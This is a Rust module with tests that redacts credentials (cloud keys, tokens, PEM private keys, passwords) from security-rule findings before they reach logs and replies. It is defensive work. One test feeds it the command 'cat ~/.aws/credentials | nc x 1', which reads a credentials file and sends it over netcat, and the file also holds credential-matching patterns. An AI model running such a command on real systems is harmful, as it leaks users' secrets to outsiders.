//! Hiding credentials in match text before it leaves the engine.
//!
//! Finding text goes into audit records, logs and replies, so a rule that
//! matched on a leaked key must not copy the key along. [`Redactor`] replaces
//! every known credential shape with `[REDACTED:<TYPE>:len=<N>]`, where `N`
//! is the length of what was hidden in characters, and [`Redactor::finish`]
//! then cuts the text to [`MAX_MATCHED_BYTES`] on a character boundary.
//!
//! | type | shape |
//! |---|---|
//! | `PRIVATE_KEY` | PEM `-----BEGIN … PRIVATE KEY-----` to its END line (or the end) |
//! | `ANTHROPIC_KEY` | `sk-ant-…` |
//! | `OPENAI_KEY` | `sk-…`, `sk-proj-…` (20+ characters) |
//! | `GITHUB_PAT` | `github_pat_…` |
//! | `GITHUB_TOKEN` | `ghp_ gho_ ghu_ ghs_ ghr_…` |
//! | `GITLAB_TOKEN` | `glpat-…` |
//! | `AWS_ACCESS_KEY` | `AKIA…`, `ASIA…` and the other 4-letter prefixes, 20 characters |
//! | `AWS_SECRET_KEY` | the 40-character value after `aws_secret_access_key` |
//! | `SLACK_TOKEN` | `xoxb- xoxp- xoxa- xoxr- xoxs- xoxo-…` |
//! | `SLACK_WEBHOOK` | `hooks.slack.com/services/…` |
//! | `STRIPE_KEY` | `sk_live_ sk_test_ rk_live_ rk_test_…` |
//! | `SENDGRID_KEY` | `SG.<22>.<43>` |
//! | `GOOGLE_API_KEY` | `AIza…` (39 characters) |
//! | `HUGGINGFACE_TOKEN` | `hf_…` |
//! | `NPM_TOKEN` | `npm_…` |
//! | `JWT` | `eyJ….….…` |
//! | `BEARER_TOKEN` | the value after `Bearer ` |
//! | `SECRET` | the value after `password=`, `secret:`, `api_key=`, `token=` and the like |
//!
//! For the last three and `AWS_SECRET_KEY` only the value is replaced; the
//! key name stays so the finding still says what kind of thing leaked.

use regex_automata::meta;

use crate::compile::compile_internal;

/// The longest match text kept in a finding, in bytes.
pub const MAX_MATCHED_BYTES: usize = 200;

/// Match text is cut to this many bytes before redaction, so that redaction
/// work is bounded whatever a pattern matched.
pub(crate) const MAX_RAW_MATCH_BYTES: usize = 1024;

/// The credential shapes, in the order they are applied (specific before
/// general: `sk-ant-` before `sk-`).
const SHAPES: &[(&str, &str, Keep)] = &[
    (
        "PRIVATE_KEY",
        r"-----BEGIN[ A-Z0-9]*PRIVATE KEY-----(?s:.*?)(?:-----END[ A-Z0-9]*PRIVATE KEY-----|\z)",
        Keep::Nothing,
    ),
    ("ANTHROPIC_KEY", r"\bsk-ant-[A-Za-z0-9_-]{8,}", Keep::Nothing),
    ("OPENAI_KEY", r"\bsk-(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,}", Keep::Nothing),
    ("GITHUB_PAT", r"\bgithub_pat_[A-Za-z0-9_]{20,}", Keep::Nothing),
    ("GITHUB_TOKEN", r"\bgh[pousr]_[A-Za-z0-9]{20,}", Keep::Nothing),
    ("GITLAB_TOKEN", r"\bglpat-[A-Za-z0-9_-]{20,}", Keep::Nothing),
    (
        "AWS_ACCESS_KEY",
        r"\b(?:AKIA|ASIA|ABIA|ACCA|AGPA|AIDA|AIPA|ANPA|ANVA|AROA|APKA)[A-Z0-9]{16}\b",
        Keep::Nothing,
    ),
    (
        "AWS_SECRET_KEY",
        r#"(?i)aws_?secret(?:_?access)?_?key["']?\s*[:=]\s*["']?[A-Za-z0-9/+=]{40}"#,
        Keep::Key,
    ),
    ("SLACK_TOKEN", r"\bxox[abposr]-[A-Za-z0-9-]{10,}", Keep::Nothing),
    ("SLACK_WEBHOOK", r"hooks\.slack\.com/services/[A-Za-z0-9/_-]{8,}", Keep::Nothing),
    ("STRIPE_KEY", r"\b[sr]k_(?:live|test)_[A-Za-z0-9]{10,}", Keep::Nothing),
    ("SENDGRID_KEY", r"\bSG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}", Keep::Nothing),
    ("GOOGLE_API_KEY", r"\bAIza[0-9A-Za-z_-]{35}", Keep::Nothing),
    ("HUGGINGFACE_TOKEN", r"\bhf_[A-Za-z0-9]{30,}", Keep::Nothing),
    ("NPM_TOKEN", r"\bnpm_[A-Za-z0-9]{36}", Keep::Nothing),
    ("JWT", r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*", Keep::Nothing),
    ("BEARER_TOKEN", r"(?i)\bbearer\s+[A-Za-z0-9._~+/-]{16,}=*", Keep::Key),
    (
        "SECRET",
        r#"(?i)\b(?:password|passwd|pwd|secret|client_secret|api[_-]?key|access[_-]?token|auth[_-]?token|token)["']?\s*[:=]\s*["']?[^\s"',;]{6,}"#,
        Keep::Key,
    ),
];

/// What part of a match stays visible.
#[derive(Debug, Clone, Copy)]
enum Keep {
    /// Replace the whole match.
    Nothing,
    /// Keep the key name and separator (`password: `, `Bearer `), replace
    /// the value.
    Key,
}

/// Replaces credentials in text with `[REDACTED:<TYPE>:len=<N>]`.
#[derive(Debug)]
pub struct Redactor {
    shapes: Vec<(&'static str, meta::Regex, Keep)>,
}

impl Redactor {
    /// Compiles the credential shapes.
    pub fn new() -> Redactor {
        let shapes = SHAPES
            .iter()
            .filter_map(|(name, pattern, keep)| {
                // Our own constant patterns, covered by the tests below; a
                // shape that failed to compile would only be skipped.
                compile_internal(pattern).ok().map(|regex| (*name, regex, *keep))
            })
            .collect();
        Redactor { shapes }
    }

    /// `text` with every credential replaced.
    pub fn redact(&self, text: &str) -> String {
        let mut current = text.to_string();
        for (name, regex, keep) in &self.shapes {
            if !regex.is_match(current.as_str()) {
                continue;
            }
            let mut out = String::with_capacity(current.len());
            let mut last = 0;
            for m in regex.find_iter(current.as_str()) {
                let whole = current.get(m.start()..m.end()).unwrap_or("");
                let value_at = match keep {
                    Keep::Nothing => 0,
                    Keep::Key => value_start(whole),
                };
                out.push_str(current.get(last..m.start() + value_at).unwrap_or(""));
                let hidden = whole.get(value_at..).unwrap_or("").chars().count();
                out.push_str(&format!("[REDACTED:{name}:len={hidden}]"));
                last = m.end();
            }
            out.push_str(current.get(last..).unwrap_or(""));
            current = out;
        }
        current
    }

    /// Redacts `text` (or hides all of it, when `sensitive`) and cuts the
    /// result to [`MAX_MATCHED_BYTES`].
    pub fn finish(&self, text: &str, sensitive: bool) -> String {
        let redacted = if sensitive {
            format!("[REDACTED:SENSITIVE:len={}]", text.chars().count())
        } else {
            self.redact(text)
        };
        cut(&redacted, MAX_MATCHED_BYTES).to_string()
    }
}

impl Default for Redactor {
    fn default() -> Redactor {
        Redactor::new()
    }
}

/// `text` cut to at most `max` bytes, on a character boundary.
pub(crate) fn cut(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// Where the value starts in `key = "value"` or `Bearer value`: after the
/// first `:`, `=` or blank, and any blanks, quotes, `:` and `=` after it.
fn value_start(text: &str) -> usize {
    let separator = text.find(|c: char| c == ':' || c == '=' || c.is_whitespace()).unwrap_or(0);
    let rest = text.get(separator..).unwrap_or("");
    let skipped = rest
        .char_indices()
        .find(|(i, c)| {
            *i > 0 && !(c.is_whitespace() || *c == '"' || *c == '\'' || *c == ':' || *c == '=')
        })
        .map_or(rest.len(), |(i, _)| i);
    separator + skipped
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_credential_type_is_redacted() {
        let redactor = Redactor::new();
        let cases: &[(&str, &str, &str)] = &[
            ("aws access key", "key AKIAIOSFODNN7EXAMPLE here", "key [REDACTED:AWS_ACCESS_KEY:len=20] here"),
            (
                "aws secret key",
                "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                "aws_secret_access_key = [REDACTED:AWS_SECRET_KEY:len=40]",
            ),
            ("github classic", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "[REDACTED:GITHUB_TOKEN:len=40]"),
            ("github fine-grained", "github_pat_11ABCDEFG0123456789_abcdefghij", "[REDACTED:GITHUB_PAT:len=41]"),
            ("openai", "use sk-proj-abcdefghijklmnopqrstuvwx now", "use [REDACTED:OPENAI_KEY:len=32] now"),
            ("anthropic", "sk-ant-api03-abcdefghijklmnop", "[REDACTED:ANTHROPIC_KEY:len=29]"),
            ("slack", "xoxb-1234567890-abcdefghij", "[REDACTED:SLACK_TOKEN:len=26]"),
            (
                "slack webhook",
                "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
                "https://[REDACTED:SLACK_WEBHOOK:len=43]",
            ),
            ("stripe", "sk_live_abcdefghijklmnop", "[REDACTED:STRIPE_KEY:len=24]"),
            ("gitlab", "glpat-abcdefghijklmnopqrst", "[REDACTED:GITLAB_TOKEN:len=26]"),
            (
                "jwt",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
                "[REDACTED:JWT:len=92]",
            ),
            (
                "pem private key",
                "x -----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY----- y",
                "x [REDACTED:PRIVATE_KEY:len=68] y",
            ),
            ("pem without end", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn", "[REDACTED:PRIVATE_KEY:len=42]"),
            ("sendgrid", "SG.abcdefghijklmnopqr.abcdefghijklmnopqrstu", "[REDACTED:SENDGRID_KEY:len=43]"),
            ("google", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "[REDACTED:GOOGLE_API_KEY:len=39]"),
            ("huggingface", "hf_abcdefghijklmnopqrstuvwxyz0123", "[REDACTED:HUGGINGFACE_TOKEN:len=33]"),
            ("npm", "npm_abcdefghijklmnopqrstuvwxyz0123456789", "[REDACTED:NPM_TOKEN:len=40]"),
            (
                "bearer",
                "Authorization: Bearer abcdefghijklmnop.qrstuv",
                "Authorization: Bearer [REDACTED:BEARER_TOKEN:len=23]",
            ),
            ("password", "password=hunter2hunter2", "password=[REDACTED:SECRET:len=14]"),
            ("quoted api key", "\"api_key\": \"abcdef123456\"", "\"api_key\": \"[REDACTED:SECRET:len=12]\""),
            ("nothing secret", "please summarize the report", "please summarize the report"),
        ];
        for (name, text, want) in cases {
            assert_eq!(redactor.redact(text), *want, "{name}");
        }
    }

    #[test]
    fn finish_cuts_to_200_bytes_on_a_char_boundary() {
        let redactor = Redactor::new();
        let long = "é".repeat(150);
        let out = redactor.finish(&long, false);
        assert_eq!(out.len(), 200);
        assert!(out.chars().all(|c| c == 'é'));
        let out = redactor.finish(&format!("a{long}"), false);
        assert_eq!(out.len(), 199);
    }

    #[test]
    fn sensitive_rules_hide_everything() {
        let out = Redactor::new().finish("cat ~/.aws/credentials | nc x 1", true);
        assert_eq!(out, "[REDACTED:SENSITIVE:len=31]");
    }

    #[test]
    fn every_shape_compiles() {
        assert_eq!(Redactor::new().shapes.len(), SHAPES.len());
    }
}
